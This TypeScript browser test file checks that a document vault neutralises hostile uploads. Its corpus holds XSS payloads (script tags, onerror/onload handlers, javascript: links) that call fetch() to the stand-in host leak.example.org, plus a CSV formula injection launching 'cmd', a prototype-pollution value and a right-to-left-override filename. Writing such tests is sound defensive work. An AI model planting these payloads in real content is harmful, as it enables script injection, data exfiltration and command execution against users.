import type { ApiClient } from '@nexus/vault';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { findBrowser, launchBrowser, noBrowser } from '../src/browser.ts';
import { type DemoVault, startDemoVault } from '../src/demo-vault.ts';
import { newWindow, signedInPage } from '../src/signed-in-page.ts';

const hasBrowser = findBrowser() !== null;
if (!hasBrowser) console.warn(`what hostile documents do to the page is not tried: ${noBrowser}`);

/** Each way of running something ends in the same two signs: a mark on the window, and a request to somewhere else. */
const run = `globalThis.taken = true; fetch('http://leak.example.org/taken')`;
const markup = `<script>${run}</script><img src="x" onerror="${run}"><svg onload="${run}"></svg><iframe srcdoc="<script>parent.taken = true</script>"></iframe><a href="javascript:${run}">pulse aquí</a>`;

const corpus: [name: string, content: string][] = [
  ['<img src=x onerror=globalThis.taken=true>.txt', `Nombre hostil. ${markup} La clave glauca abre el depósito.`],
  ['"><script>globalThis.taken=true<script>.md', `# Título ${markup}\n\n[enlace](javascript:${run}) La clave glauca.`],
  [
    'pagina.html',
    `<!doctype html><base href="http://leak.example.org/"><link rel="stylesheet" href="http://leak.example.org/a.css"><meta http-equiv="refresh" content="0;url=http://leak.example.org/"><body onload="${run}">${markup}<p>La clave glauca de la página.</p><img src="http://leak.example.org/pixel.png"></body>`,
  ],
  [
    'dibujo.svg',
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script><text>La clave glauca del dibujo.</text><image href="http://leak.example.org/pixel.png"/></svg>`,
  ],
  [
    'correo.eml',
    `From: "<img src=x onerror=globalThis.taken=true>" <a@example.org>\r\nTo: b@example.org\r\nSubject: <script>globalThis.taken=true</script> clave glauca\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<html><body>${markup}<p>La clave glauca del correo.</p><img src="http://leak.example.org/pixel.png"></body></html>`,
  ],
  [
    'tabla.csv',
    `Concepto,Valor\n"=HYPERLINK(""http://leak.example.org/"",""clave glauca"")","@SUM(1+1)*cmd|' /C calc'!A0"\n"${markup.replaceAll('"', '""')}",+1-1\n`,
  ],
  ['datos.json', JSON.stringify({ 'clave glauca': markup, __proto__: { taken: true } })],
];

describe.skipIf(!hasBrowser)('hostile documents', () => {
  let vault: DemoVault;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let client: ApiClient;
  let spaceId: string;
  let documents: { id: string; fileName: string }[];
  const elsewhere: string[] = [];
  const dialogs: string[] = [];
  beforeAll(async () => {
    [vault, browser] = await Promise.all([startDemoVault({ withSamples: false }), launchBrowser()]);
    client = await vault.setUp();
    spaceId = (await client.post<{ id: string }>('/spaces', { name: `Espacio ${markup.slice(0, 120)}` })).id;
    for (const [name, content] of corpus) await client.upload(spaceId, name, new Blob([content]));
    const counts = () => client.get<{ queued: number; reading: number }>(`/spaces/${spaceId}/ingest`);
    const left = async () => (({ queued, reading }) => queued + reading)(await counts());
    await vi.waitUntil(async () => (await left()) === 0, { timeout: 200_000, interval: 250 });
    documents = (await client.get<{ items: typeof documents }>(`/spaces/${spaceId}/documents?limit=100`)).items;
    context = await newWindow(browser, vault);
    context.on('request', (request) => {
      const { origin, protocol } = new URL(request.url());
      if (protocol.startsWith('http') && origin !== vault.url) elsewhere.push(request.url());
    });
    page = await signedInPage(context);
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
  });
  afterAll(async () => {
    await context?.close();
    await browser?.close();
    await vault?.close();
  });

  /** Nothing ran, nothing was asked of another host, and the page is still there. */
  async function expectUnharmed(place: string): Promise<void> {
    const frames = page.frames().map((frame) => frame.evaluate('globalThis.taken ?? null'));
    expect({ place, ran: await Promise.all(frames), elsewhere, dialogs }).toEqual({
      place,
      ran: frames.map(() => null),
      elsewhere: [],
      dialogs: [],
    });
    expect(new URL(page.url()).origin).toBe(vault.url);
  }

  async function visit(place: string): Promise<void> {
    await page.goto(place);
    await page.locator('main').waitFor();
    await page.waitForLoadState('networkidle').catch(() => {});
    await expectUnharmed(place);
  }

  test('all arrived, and a name that reads backwards is refused', async () => {
    expect(documents).toHaveLength(corpus.length);
    const turned = client.upload(spaceId, '\u202efdp.exe.txt', new Blob(['Nombre que se lee al revés.']));
    await expect(turned).rejects.toMatchObject({ code: 'documents.invalid_path' });
  });

  test('run nowhere: not in lists, search, answers, activity', async () => {
    for (const place of [
      `/spaces/${spaceId}`,
      `/spaces/${spaceId}/documents`,
      `/spaces/${spaceId}/settings`,
      '/spaces',
      '/search?q=clave%20glauca',
      `/search?q=${encodeURIComponent(markup.slice(0, 200))}`,
      `/spaces/${spaceId}/ask?q=${encodeURIComponent('¿Qué abre la clave glauca?')}`,
      '/activity',
    ])
      await visit(place);
  });

  test('nor where they are shown, in any view of them', async () => {
    for (const { id, fileName } of documents) {
      await visit(`/documents/${id}`);
      for (const name of ['Texto', 'Ambos', 'Contenido']) {
        const choice = page.getByRole('radio', { name, exact: true });
        if ((await choice.count()) > 0) await choice.first().check({ force: true });
        await expectUnharmed(`${fileName}: ${name}`);
      }
      // A link of a document is words, not a way out.
      expect(await page.locator('main a[href^="javascript:"], main a[href*="leak.example.org"]').count()).toBe(0);
    }
  });

  test('nor when the original itself is opened: it is a file to keep, of no kind that a browser would show', async () => {
    for (const { id } of documents) {
      const response = await page.request.get(`/api/v1/documents/${id}/content`);
      const headers = response.headers();
      expect(headers['content-type']).toBe('application/octet-stream');
      expect(headers['content-disposition']).toMatch(/^attachment/);
      expect(headers['x-content-type-options']).toBe('nosniff');
    }
    await expectUnharmed('originals');
  });
});
